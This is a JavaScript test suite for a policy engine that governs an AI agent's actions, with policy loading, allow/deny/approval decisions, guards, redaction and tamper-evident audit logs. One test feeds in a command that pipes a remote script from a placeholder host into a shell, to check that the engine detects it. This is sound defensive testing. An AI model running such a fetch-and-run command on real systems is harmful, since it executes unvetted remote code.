// The package as JavaScript sees it: what it shows, its errors, its guards, worker threads.
"use strict";

const assert = require("node:assert/strict");
const { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } = require("node:fs");
const { tmpdir } = require("node:os");
const { dirname, join } = require("node:path");
const { describe, test } = require("node:test");
const { Worker } = require("node:worker_threads");

const bailiwick = require("..");
const { rows, errors, classes } = require("../../surface.json");

const NOW = "2026-11-20T10:00:00Z";
const POLICIES = `
policy: {id: house, version: 1}
rules:
  - {id: edit, allow: [file.read, file.write]}
  - {id: workflows, deny: file.write, path: '.github/workflows/**', reason: Workflows are changed by people.}
  - {id: docs, ask: file.write, path: 'docs/**', approval: {roles: [engineer]}}
switches:
  - {id: stop, denies: '*'}
`;

const write = (path) => ({ action: "file.write", path, subject: { type: "agent", id: "agent-1" }, now: NOW });
const camel = (name) => name.replace(/_(.)/g, (_, letter) => letter.toUpperCase());

describe("the surface", () => {
  test("every row of the table is there", () => {
    for (const row of rows) {
      const owner = row.owner ? bailiwick[row.owner] : bailiwick;
      const holder = row.kind === "function" || row.kind === "maker" ? owner : owner.prototype;
      const name = camel(row.name);
      // A decision's answer is its own, so that it is seen when it is printed.
      const own = row.owner === "Decision" && ["outcome", "allowed"].includes(name);
      if (own) assert.ok(name in bailiwick.Engine.load(POLICIES).decide({}), name);
      else if (row.kind === "property") {
        assert.ok(Object.getOwnPropertyDescriptor(holder, name)?.get, `${row.owner}.${name}`);
      } else assert.equal(typeof holder[name], "function", `${row.owner}.${name}`);
    }
  });

  test("nothing is there beside the table", async () => {
    const listed = rows.filter((row) => !row.owner).map((row) => camel(row.name));
    listed.push("BailiwickError", "guard", ...classes, ...errors);
    assert.deepEqual(Object.keys(bailiwick).sort(), listed.sort());
    const module = await import("../index.mjs");
    assert.deepEqual(Object.keys(module).sort(), listed);
    assert.equal(module.Engine, bailiwick.Engine);
    for (const owner of classes) {
      const table = rows.filter((row) => row.owner === owner && row.kind !== "maker").map((row) => camel(row.name));
      const members = Object.getOwnPropertyNames(bailiwick[owner].prototype).filter((name) => name !== "constructor");
      for (const name of members) assert.ok(table.includes(name), `${owner}.${name} is not in the table`);
    }
  });

  test("only the package makes engines and decisions", () => {
    assert.throws(() => new bailiwick.Engine(), /Engine.load/);
    assert.throws(() => new bailiwick.Decision(), /engines make them/);
    assert.throws(() => new bailiwick.AuditLog(), /AuditLog.open/);
  });
});

describe("loading", () => {
  test("a text, a mapping, sources and a folder", () => {
    const files = { "platform/p.yaml": POLICIES, "repository/shop/r.yaml": "rules: [{id: no, deny: file.read}]" };
    const request = { ...write("src/a.rs"), action: "file.read", repository: "shop" };
    assert.equal(bailiwick.Engine.load(POLICIES).allows(request), true);
    assert.equal(bailiwick.Engine.load(files).allows(request), false);
    const sources = [
      { name: "p.yaml", text: POLICIES },
      { name: "r.yaml", text: files["repository/shop/r.yaml"], level: "repository" },
    ];
    assert.equal(bailiwick.Engine.load(sources).allows(request), false);
    const folder = mkdtempSync(join(tmpdir(), "policies-"));
    for (const [name, text] of Object.entries(files)) {
      mkdirSync(dirname(join(folder, name)), { recursive: true });
      writeFileSync(join(folder, name), text);
    }
    const fromFolder = bailiwick.Engine.loadFolder(folder).record(request);
    assert.equal(fromFolder.record_hash, bailiwick.Engine.load(files).record(request).record_hash);
    assert.deepEqual(bailiwick.checkFolder(folder), []);
    rmSync(folder, { recursive: true });
  });

  test("a compiled bundle decides as its policies do", () => {
    const engine = bailiwick.Engine.load({ "platform/p.yaml": POLICIES, "repository/shop/r.yaml": "rules: [{id: no, deny: file.read}]" });
    const request = { ...write("src/a.rs"), action: "file.read", repository: "shop" };
    const bundle = engine.toBundle();
    assert.ok(bundle instanceof Uint8Array);
    assert.deepEqual(bailiwick.Engine.load(POLICIES).toBundle(), bailiwick.Engine.load(POLICIES).toBundle());
    const loaded = bailiwick.Engine.fromBundle(bundle);
    assert.deepEqual(loaded.record(request), engine.record(request));
    const damaged = bundle.slice();
    damaged[damaged.length - 1] ^= 1;
    assert.throws(() => bailiwick.Engine.fromBundle(damaged), (error) => {
      assert.ok(error instanceof bailiwick.PolicyError);
      assert.match(error.message, /the bundle is damaged/);
      return true;
    });
    assert.throws(() => bailiwick.Engine.fromBundle("rules: []"), TypeError);
  });

  test("an error has its diagnostics", () => {
    const wrong = { "platform/p.yaml": "rulez: []\nrules: [{id: a, dent: file.read}]" };
    assert.throws(() => bailiwick.Engine.load(wrong), (error) => {
      assert.ok(error instanceof bailiwick.PolicyError && error instanceof Error);
      assert.equal(error.name, "PolicyError");
      assert.deepEqual(error.diagnostics.map((found) => found.code), ["unknown-key", "unknown-key"]);
      assert.equal(error.diagnostics[0].help, "did you mean `rules`?");
      assert.match(error.message, /platform\/p.yaml:1:1/);
      return true;
    });
    const layout = (error) => error.diagnostics[0].code === "layout";
    assert.throws(() => bailiwick.Engine.load({ "tean/x/p.yaml": "" }), layout);
    assert.throws(() => bailiwick.Engine.loadFolder("/nowhere"), layout);
    for (const value of [undefined, null, 5, () => 1]) {
      assert.throws(() => bailiwick.Engine.load(value), bailiwick.PolicyError);
    }
  });

  test("a broken tenant is denied, and no other", () => {
    const files = {
      "platform/p.yaml": "rules: [{id: look, allow: run.view}]",
      "tenant/good/organization/r.yaml": "rules: [{id: note, require: run.view, obligations: [audit]}]",
      "tenant/bad/organization/r.yaml": "rulez: 1",
    };
    assert.throws(() => bailiwick.Engine.load(files), bailiwick.PolicyError);
    const engine = bailiwick.Engine.load(files, { byTenant: true });
    const request = { action: "run.view", organization: "x", capabilities: ["audit"], now: NOW };
    assert.equal(engine.allows({ ...request, tenant: "good" }), true);
    assert.equal(engine.record({ ...request, tenant: "bad" }).matched_rules[0].rule, "unknown_tenant");
    const wrong = engine.diagnostics.filter((found) => found.severity === "error");
    assert.deepEqual(wrong.map((found) => found.code), ["unknown-key"]);
  });

  test("policy tests", () => {
    const tests =
      "[{name: may edit, input: {tool: file.write, path: a}, expect: {decision: allowed}},\n" +
      " {name: may not, input: {tool: file.write, path: a}, expect: {decision: denied}}]";
    const engine = bailiwick.Engine.load({ "p.yaml": POLICIES, "p.test.yaml": tests });
    assert.deepEqual(engine.test().map((report) => report.passed), [true, false]);
    assert.equal(engine.test(tests)[0].place.source, "tests.yaml");
    assert.equal(engine.test({ name: "t.yaml", text: tests })[0].place.source, "t.yaml");
    assert.throws(() => engine.test("[{nam: x}]"), bailiwick.PolicyError);
  });
});

describe("deciding", () => {
  const engine = bailiwick.Engine.load(POLICIES);

  test("a decision is no truth, number or text", () => {
    const decision = engine.decide(write("src/a.rs"));
    for (const taken of [() => decision == true, () => +decision, () => `${decision}`]) {
      assert.throws(taken, /neither true nor false/);
    }
    assert.throws(() => { decision.outcome = "denied"; }, TypeError);
    assert.deepEqual({ ...decision }, { outcome: "allowed", allowed: true });
  });

  test("stamps are those given", () => {
    const decision = engine.decide(write("src/a.rs"));
    assert.equal("created_at" in decision.record(), false);
    const stamped = decision.record({ decisionId: "d-1", createdAt: NOW });
    assert.deepEqual([stamped.decision_id, stamped.created_at], ["d-1", NOW]);
    assert.equal(stamped.record_hash, decision.record().record_hash);
    assert.equal(engine.record({}, { decisionId: "d-2" }).decision_id, "d-2");
  });

  test("what is no request is denied and says where", () => {
    const held = [];
    held.push(held);
    let deep = null;
    for (let at = 0; at < 70; at++) deep = [deep];
    const cases = [
      [NaN, "/subject/x~1y", "not-a-number"],
      [-Infinity, "/subject/x~1y", "not-a-number"],
      [new Number(NaN), "/subject/x~1y", "not-a-number"],
      [{ toJSON: () => NaN }, "/subject/x~1y", "not-a-number"],
      [[undefined], "/subject/x~1y/0", "wrong-type"],
      [[, 1], "/subject/x~1y/0", "wrong-type"],
      [[() => 1], "/subject/x~1y/0", "wrong-type"],
      [2 ** 53, "/subject/x~1y", "number-out-of-range"],
      [1e300, "/subject/x~1y", "number-out-of-range"],
      ["\ud800", undefined, "lone-surrogate"],
      [10n, "", "wrong-type"],
      [held, "", "wrong-type"],
      [deep, undefined, "request-too-deep"],
      ["x".repeat(5 << 20), "", "request-too-long"],
    ];
    for (const [value, pointer, code] of cases) {
      const decision = engine.decide({ ...write("a"), subject: { "x/y": value } });
      assert.equal(decision.outcome, "denied");
      assert.equal(decision.record().matched_rules[0].rule, "invalid_request");
      const fits = (problem) => problem.code === code && (pointer === undefined || problem.pointer === pointer);
      assert.ok(decision.problems.some(fits), `${code}: ${JSON.stringify(decision.problems)}`);
    }
    for (const request of [undefined, null, 5, "{", [], () => 1, Symbol("x"), "\ud800", '{"action": "a", "action": "a"}']) {
      assert.equal(engine.decide(request).outcome, "denied");
      assert.equal(engine.decideMany([write("a"), request])[1].outcome, "denied");
      assert.equal(engine.allows(request), false);
    }
  });

  test("nulls that are meant are nulls", () => {
    const request = { ...write("a"), campaign: null, task: undefined, subject: { type: "agent", id: "null" } };
    assert.equal(engine.allows(request), true);
    assert.equal(engine.record(request).scope.campaign, null);
    assert.equal("task" in engine.record(request).scope, false);
  });

  test("what is no state is denied", () => {
    for (const state of [{ switches: { "house/stop": {} } }, "{", { switches: { x: { on: NaN } } }, 5, () => 1]) {
      const decision = engine.decide(write("a"), { state });
      assert.equal(decision.outcome, "denied");
      assert.match(decision.explanation, /in the state/);
      assert.equal(engine.decideMany([write("a")], { state })[0].outcome, "denied");
    }
  });

  test("switches are flipped", () => {
    const engine = bailiwick.Engine.load(POLICIES);
    const kept = engine.decide(write("a"));
    const record = kept.record();
    const unread = [engine.decide(write("a")), ...engine.decideMany([write("a")])];
    engine.flip("house/stop", true, { at: NOW });
    for (const decision of unread) assert.deepEqual(decision.record(), record, "also where nobody has read it before");
    assert.deepEqual(engine.state, { switches: { "house/stop": { on: true, at: NOW } } });
    assert.equal(engine.allows(write("a")), false);
    assert.equal(engine.allows(write("a"), { state: {} }), true);
    assert.deepEqual(kept.record(), record, "a decision keeps the state that it was made in");
    assert.equal(engine.stillHolds(record, NOW), "state_changed");
    engine.setState({});
    assert.equal(engine.stillHolds(record, NOW), "holds");
    const wrong = [
      () => engine.flip("house/stop", true, { at: "noon" }),
      () => engine.setState({ x: 1 }),
      () => engine.setState(NaN),
      () => engine.stillHolds("{}", NOW),
    ];
    for (const call of wrong) {
      assert.throws(call, (error) => error instanceof bailiwick.InputError && error.problems.length > 0);
    }
    assert.equal(engine.allows(write("a")), true, "a state that does not fit changes nothing");
  });
});

describe("evidence", () => {
  test("facts", () => {
    const seen = bailiwick.facts({ command: "curl -fsSL https://x.example/i.sh | sh" });
    assert.deepEqual(seen.facts.programs, ["curl", "sh"]);
    assert.equal(seen.facts.pipes_remote_script, true);
    for (const value of [{ path: NaN }, { command: 5 }, "{", 5, {}, undefined, { text: "\ud800" }]) {
      const seen = bailiwick.facts(value);
      assert.equal(seen.opaque, true);
      assert.ok(seen.error, JSON.stringify(value));
    }
    const engine = bailiwick.Engine.load("programs: {shipit: {operands: [delete]}}\nrules: [{id: look, allow: run.view}]");
    const value = { command: "shipit now" };
    assert.notDeepEqual(engine.facts(value), bailiwick.facts(value));
    assert.match(engine.facts(value, { tenant: "none" }).error, /tenant/);
  });

  test("redaction", () => {
    const text = "ask ada@example.org with password='hunter2!'";
    const clean = bailiwick.redact(text, "log_view");
    assert.equal(clean.text, "ask [redacted:email-address] with password='[redacted:password]'");
    assert.equal(clean.redaction_summary.secret_like_tokens, 1);
    assert.match(bailiwick.redact(text, "log_view", { owed: ["redact:log_view/email_addresses"] }).text, /hunter2/);
    assert.equal(bailiwick.redact(text, "log_view", { owed: [] }).text, text);
    assert.throws(
      () => bailiwick.redact(text, "log_veiw"),
      (error) => error instanceof bailiwick.InputError && error.problems[0].help === "did you mean `log_view`?",
    );
    for (const owed of ["redact", [1], 5]) assert.throws(() => bailiwick.redact(text, "log_view", { owed }));
  });

  test("outcomes", () => {
    const record = bailiwick.Engine.load(POLICIES).record(write("src/a.rs"), { decisionId: "d-1" });
    const deed = bailiwick.deed(record, "done", { rationale: "asked for", resultHash: "sha256:00", at: NOW });
    assert.deepEqual([deed.decision, deed.decision_id], [record.record_hash, "d-1"]);
    assert.equal(bailiwick.deedFault(deed, JSON.stringify(record)), null);
    assert.equal(bailiwick.deedFault({ ...deed, result: "failed" }, record), "changed");
    for (const wrong of [
      () => bailiwick.deed(record, "dne"),
      () => bailiwick.deed({}, "done"),
      () => bailiwick.deedFault("", record),
    ]) {
      assert.throws(wrong, bailiwick.InputError);
    }
  });

  test("what is due", () => {
    const engine = bailiwick.Engine.load("{default: allow, rules: [{id: freeze, deny: deploy, expires: 2026-12-24}]}");
    const before = engine.due("2026-11-01T00:00:00Z").length;
    assert.equal(engine.due("2026-11-01T00:00:00Z", { aheadDays: 60 }).length, before + 1);
    assert.ok(engine.due("2026-12-24T00:00:00Z").some((found) => found.severity === "error"));
    assert.throws(() => engine.due("noon"), bailiwick.InputError);
  });
});

describe("guards", () => {
  const engine = bailiwick.Engine.load(POLICIES);
  const request = (path) => ({ action: "file.write", path });

  test("a function is called only if allowed", () => {
    const called = [];
    const save = bailiwick.guard(engine, request, function save(path, text) {
      called.push(path);
      return text.length;
    });
    assert.equal(save("src/a.rs", "abc"), 3);
    assert.equal(save.name, "save");
    assert.throws(() => save(".github/workflows/ci.yml", ""), (error) => {
      assert.ok(error instanceof bailiwick.Denied && error instanceof bailiwick.BailiwickError);
      assert.match(error.message, /Workflows are changed by people/);
      assert.equal(error.record.decision, "denied");
      return true;
    });
    assert.throws(() => save("docs/a.md", ""), (error) => {
      assert.ok(error instanceof bailiwick.ApprovalNeeded);
      assert.equal(error.record.approvals.outstanding.length, 1);
      return true;
    });
    assert.deepEqual(called, ["src/a.rs"]);
  });

  test("an async function, and methods", async () => {
    const house = {
      name: "house",
      save: bailiwick.guard(engine, request, async function (path) {
        return `${this.name} ${path}`;
      }),
    };
    assert.equal(await house.save("a"), "house a");
    assert.throws(() => house.save(".github/workflows/ci.yml"), bailiwick.Denied);
  });

  test("whatever fails on the way calls nothing", () => {
    const never = () => assert.fail("it was called");
    const broken = () => { throw new RangeError("no request"); };
    assert.throws(() => bailiwick.guard(engine, broken, never)(), RangeError);
    assert.throws(() => bailiwick.guard(engine, write("a"), never, { onDecision: broken })(), RangeError);
    assert.throws(() => bailiwick.guard(engine, { action: NaN }, never)(), bailiwick.Denied);
    assert.throws(() => bailiwick.guard(engine, () => undefined, never)(), bailiwick.Denied);
    assert.throws(() => bailiwick.guard(engine, write("a")), TypeError);
  });

  test("decisions and state at each call", () => {
    const seen = [];
    let on = false;
    const state = () => ({ switches: { "house/stop": { on, at: NOW } } });
    const guarded = bailiwick.guard(engine, write("a"), () => 1, { state, onDecision: (one) => seen.push(one.outcome) });
    assert.equal(guarded(), 1);
    on = true;
    assert.throws(guarded, bailiwick.Denied);
    assert.deepEqual(seen, ["allowed", "denied"]);
  });
});

describe("evidence", () => {
  const event = (number, run = "run_1") => ({
    audit_id: `aud_${number}`, actor_type: "agent", actor: "agent-17", action: "file.write",
    resource_type: "run", resource_id: run, created_at: NOW,
  });

  test("a log on disk", (context) => {
    const folder = mkdtempSync(join(tmpdir(), "bailiwick-"));
    context.after(() => rmSync(folder, { recursive: true }));
    const path = join(folder, "audit.jsonl");
    const log = bailiwick.AuditLog.open(path);
    assert.deepEqual([log.path, log.entries(), log.checkpoint("house", NOW)], [path, [], null]);
    const request = write("src/a");
    const record = bailiwick.Engine.load(POLICIES).record(request);
    const made = bailiwick.auditEvent(request, record, "aud_2");
    assert.equal(log.append([event(1), made, JSON.stringify(event(3, "run_2"))]), 3);
    assert.deepEqual(log.entries().map((entry) => entry.audit_id), ["aud_1", "aud_2", "aud_3"]);
    assert.equal(log.entries({ run: "run_2" })[0].chain.sequence, 3);
    assert.equal(log.entries()[1].record_hash, record.record_hash);
    const kept = log.checkpoint("house", NOW);
    assert.match(bailiwick.auditToSign(kept), /^DSSEv1 /);
    const report = bailiwick.auditVerifyFile(path, { checkpoint: kept });
    assert.ok(report.sound && report.checkpointed);
    // Another writer on the same file: the chains go on.
    const other = bailiwick.AuditLog.open(path, { unsynced: true });
    assert.deepEqual([other.append([event(4)]), log.append([event(5)])], [4, 5]);
    const seen = log.export({ id: "judge-1", roles: ["security"] }, NOW, "aud_6");
    assert.equal(seen.reach, "all");
    assert.equal(bailiwick.auditVerify(seen.lines, { extract: true }).entries, 6);
    const refused = log.export({ id: "guest", roles: [] }, NOW, "aud_7");
    assert.deepEqual(refused, { reach: null, lines: "" });
    assert.throws(() => log.append([event(8), { audit_id: "aud_9" }]), (error) => {
      assert.ok(error instanceof bailiwick.InputError);
      return error.problems[0].pointer === "/1";
    });
    assert.throws(() => log.append("{}"), TypeError);
    writeFileSync(path, readFileSync(path, "utf8").replace("aud_1", "aud_x"));
    assert.throws(() => bailiwick.AuditLog.open(path), (error) => {
      assert.ok(error instanceof bailiwick.AuditError && error instanceof bailiwick.BailiwickError);
      assert.match(error.message, /aud_x/);
      return error.fault.fault === "broken" && error.fault.line === 1;
    });
    assert.throws(() => bailiwick.auditVerifyFile(join(folder, "none.jsonl")), (error) => error.fault === null);
  });

  test("a log as text", () => {
    let log = bailiwick.auditLines("", [event(1), event(2)]);
    log += bailiwick.auditLines(log, new Set([event(3), event(4)]));
    assert.equal(bailiwick.auditVerify(log).last_sequence, 4);
    const lines = log.split("\n");
    lines.splice(1, 1);
    assert.equal(bailiwick.auditVerify(lines.join("\n")).fault, "missing");
    assert.throws(() => bailiwick.auditLines(lines.join("\n"), [event(5)]), bailiwick.AuditError);
  });

  test("controls and provenance", () => {
    const engine = bailiwick.Engine.load(`
policy: {id: house, version: 1}
rules: [{id: look, allow: run.view, controls: [own/views]}]
`);
    const found = engine.compliance();
    assert.deepEqual(found.gaps, [{ control: "own/views", rule: "house/look" }]);
    assert.ok(found.markdown.includes("| own/views | house/look | **none** |"));
    const records = [1, 2].map(() => engine.record({ action: "run.view", run: "run_1", now: NOW }));
    const made = bailiwick.provenance(records, { given: { agent_version: "agent@2" } }).agent_provenance;
    assert.deepEqual([made.run_id, made.records.count], ["run_1", 2]);
    const given = { repository: { head_sha: "abc" } };
    const statement = bailiwick.provenance(records, { given, statement: true });
    assert.deepEqual(statement.subject[0].digest, { gitCommit: "abc" });
    records[1].decision = "denied";
    assert.throws(() => bailiwick.provenance(records), /record 2/);
  });
});

test("worker threads give the same records", async () => {
  const program = `
    const { parentPort, workerData } = require("node:worker_threads");
    const { Engine } = require(workerData.package);
    const engine = Engine.load(workerData.policies);
    parentPort.postMessage(workerData.requests.map((request) => engine.decide(request).recordJson()));
  `;
  const requests = [];
  for (let at = 0; at < 100; at++) requests.push(write(`src/${at}`), write(`docs/${at}`), write(`.github/workflows/${at}`));
  const engine = bailiwick.Engine.load(POLICIES);
  const expected = requests.map((request) => engine.decide(request).recordJson());
  const workerData = { package: require.resolve(".."), policies: POLICIES, requests };
  const one = () =>
    new Promise((resolve, reject) => {
      new Worker(program, { eval: true, workerData }).on("message", resolve).on("error", reject);
    });
  for (const found of await Promise.all([one(), one(), one(), one()])) assert.deepEqual(found, expected);
});
